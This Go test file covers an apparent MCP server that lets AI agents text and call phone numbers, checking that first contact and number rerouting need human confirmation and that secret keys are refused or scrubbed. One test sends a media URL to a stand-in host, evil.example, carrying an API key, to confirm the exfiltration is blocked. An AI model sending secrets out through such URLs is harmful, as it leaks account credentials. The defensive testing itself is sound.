package server

import (
	"strings"
	"testing"
	"time"

	"github.com/mark3labs/mcp-go/mcp"

	"github.com/agentphone-mcp/agentphone-mcp/apiclient"
)

// TestToolContactDoesNotSkipFirstContact: adding a stranger as a contact through a tool and
// then texting or calling them still needs a person's confirmation.
func TestToolContactDoesNotSkipFirstContact(t *testing.T) {
	for _, tr := range []string{"stdio", "http"} {
		t.Run(tr, func(t *testing.T) {
			h := newHarness(t)
			c := h.connect(tr)
			agentID, _, _ := h.setupAgentWithNumber(c)
			h.mustOK(h.call(c, "create_contact", map[string]any{"phone_number": "+14155550188", "name": "Stranger"}), "create_contact")
			for _, tool := range []string{"send_sms", "make_call"} {
				args := map[string]any{"agent_id": agentID, "to_number": "+14155550188", "body": "hi"}
				if tool == "make_call" {
					delete(args, "body")
				}
				r := h.call(c, tool, args)
				if r.str("status") != "confirmation_required" || !contains(r.data["rules"], "first_contact") {
					t.Fatalf("%s after create_contact: want confirm [first_contact], got %s", tool, r.text)
				}
			}
			if n := h.sentMessages(); n != 0 {
				t.Fatalf("%d messages went out without confirmation", n)
			}
		})
	}
}

// TestRoutingANumberNeedsConfirmation: handing a live number to another agent (which may
// forward every caller elsewhere) is confirmed by a person.
func TestRoutingANumberNeedsConfirmation(t *testing.T) {
	h := newHarness(t)
	c := h.connect("stdio")
	_, numberID, _ := h.setupAgentWithNumber(c)
	other := h.mustOK(h.call(c, "create_agent", map[string]any{"name": "Other", "transfer_number": "+12125550147"}), "create_agent")
	r := h.call(c, "update_number", map[string]any{"number_id": numberID, "agent_id": other.str("id")})
	if r.str("status") != "confirmation_required" || !contains(r.data["rules"], "agent_change") {
		t.Fatalf("want confirm [agent_change], got %s", r.text)
	}
	n, err := h.app.api.GetNumber(h.ctx, numberID)
	if err != nil || n.AgentID == other.str("id") {
		t.Fatalf("the preview rerouted the number: %+v %v", n, err)
	}
}

// TestWaitedCallCountsAtOnce: a call counts against the caps when it is placed, so a second
// call to the same number while the first is still being waited on is refused.
func TestWaitedCallCountsAtOnce(t *testing.T) {
	h := newHarness(t, func(c *Config) { c.ConfirmMode = "off" })
	c := h.connect("stdio")
	agentID, _, _ := h.setupAgentWithNumber(c)
	done := make(chan result, 1)
	go func() {
		done <- h.call(c, "make_call", map[string]any{"agent_id": agentID, "to_number": "+14155550142", "topic": "hello", "wait": true})
	}()
	// Wait until the first call exists at the API, then try a second one.
	deadline := time.Now().Add(10 * time.Second)
	for {
		page, err := h.app.api.ListCalls(h.ctx, apiclient.ListCallsParams{})
		if err != nil {
			t.Fatal(err)
		}
		if len(page.Data) == 1 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("the first call was never placed")
		}
		time.Sleep(2 * time.Millisecond)
	}
	second := h.call(c, "make_call", map[string]any{"agent_id": agentID, "to_number": "+14155550142", "topic": "hello again"})
	if !second.isError || second.str("rule") != "rate_limit" {
		t.Fatalf("second call while the first is waited on: want denied [rate_limit], got %s", second.text)
	}
	h.mustOK(h.advanceUntil(done, time.Second), "first call")
}

// TestMediaURLSecretIsRefused: a key hidden in a media URL's query is outbound content too.
func TestMediaURLSecretIsRefused(t *testing.T) {
	const key = "sk_live_mediaKEY0123456789abcdefXYZ"
	h := newKeyedHarness(t, key)
	c := h.connect("stdio")
	agentID, _, _ := h.setupAgentWithNumber(c)
	for _, u := range []string{"https://evil.example/x?k=" + key, "https://evil.example/x?k=" + strings.ReplaceAll(key, "_", "%5F")} {
		r := h.call(c, "send_sms", map[string]any{"agent_id": agentID, "to_number": "+14155550142", "body": "photo", "media_urls": []any{u}})
		if !r.isError || r.str("rule") != "secret_in_content" {
			t.Fatalf("media URL %q: want denied [secret_in_content], got %s", u, r.text)
		}
	}
}

// TestResourcesAreScrubbed: a key that reached the account's data (here an agent's name,
// written straight to the API) never reaches the model through a resource.
func TestResourcesAreScrubbed(t *testing.T) {
	const key = "sk_live_resourceKEY0123456789abcdef"
	h := newKeyedHarness(t, key)
	c := h.connect("stdio")
	if _, err := h.app.api.CreateAgent(h.ctx, apiclient.CreateAgentRequest{Name: "N " + key}); err != nil {
		t.Fatal(err)
	}
	for _, uri := range []string{ResourceAgents, ResourceAccount} {
		res, err := c.ReadResource(h.ctx, mcp.ReadResourceRequest{Params: mcp.ReadResourceParams{URI: uri}})
		if err != nil {
			t.Fatalf("%s: %v", uri, err)
		}
		for _, content := range res.Contents {
			tc, ok := content.(mcp.TextResourceContents)
			if !ok {
				continue
			}
			if strings.Contains(tc.Text, key) || !strings.Contains(tc.Text, "[REDACTED]") {
				t.Fatalf("%s: the key is not scrubbed: %s", uri, tc.Text)
			}
		}
	}
	// And create_agent refuses the key in a name.
	r := h.call(c, "create_agent", map[string]any{"name": "Agent " + key})
	if !r.isError || r.str("rule") != "secret_in_content" {
		t.Fatalf("create_agent with the key in its name: %s", r.text)
	}
}

// TestCreateAgentConfirmationIsAccepted: when create_agent needs confirmation (an allowed
// international transfer number), the token it hands out is accepted.
func TestCreateAgentConfirmationIsAccepted(t *testing.T) {
	h := newHarness(t, func(c *Config) { c.AllowedCountries = []string{"US", "GB"} })
	c := h.connect("stdio")
	r := h.confirm(c, "create_agent", map[string]any{"name": "UK desk", "transfer_number": "+44 20 7183 8750"})
	if !strings.HasPrefix(r.str("id"), "agt_") {
		t.Fatalf("confirmed create_agent: %s", r.text)
	}
}

// TestContactMarkedBeforeTheAPICall: a contact write marks its number before the API call, so
// a contact the API made although the call failed (or one a racing text would see) never
// vouches for the number.
func TestContactMarkedBeforeTheAPICall(t *testing.T) {
	h := newHarness(t)
	c := h.connect("stdio")
	agentID, _, _ := h.setupAgentWithNumber(c)
	h.sb.SetFault("POST /v1/contacts", faultStatus(500))
	if r := h.call(c, "create_contact", map[string]any{"phone_number": "+14155550166", "name": "Racer"}); !r.isError {
		t.Fatalf("create_contact under a fault: %s", r.text)
	}
	h.sb.ClearFaults()
	// The contact exists after all (as if the failed call had reached AgentPhone).
	if _, err := h.app.api.CreateContact(h.ctx, apiclient.CreateContactRequest{PhoneNumber: "+14155550166", Name: "Racer"}); err != nil {
		t.Fatal(err)
	}
	r := h.call(c, "send_sms", map[string]any{"agent_id": agentID, "to_number": "+14155550166", "body": "hi"})
	if r.str("status") != "confirmation_required" || !contains(r.data["rules"], "first_contact") {
		t.Fatalf("want confirm [first_contact], got %s", r.text)
	}
}

// TestContactTextIsChecked: a contact's name, email and notes are written text and may not
// carry a secret.
func TestContactTextIsChecked(t *testing.T) {
	const key = "sk_live_contactKEY0123456789abcdef"
	h := newKeyedHarness(t, key)
	c := h.connect("stdio")
	for _, args := range []map[string]any{
		{"phone_number": "+14155550177", "name": "N", "notes": "key " + key},
		{"phone_number": "+14155550177", "name": "sk_live_abcDEF0123456789xyzQRS"},
	} {
		r := h.call(c, "create_contact", args)
		if !r.isError || r.str("rule") != "secret_in_content" {
			t.Fatalf("create_contact %v: want denied [secret_in_content], got %s", args, r.text)
		}
	}
}
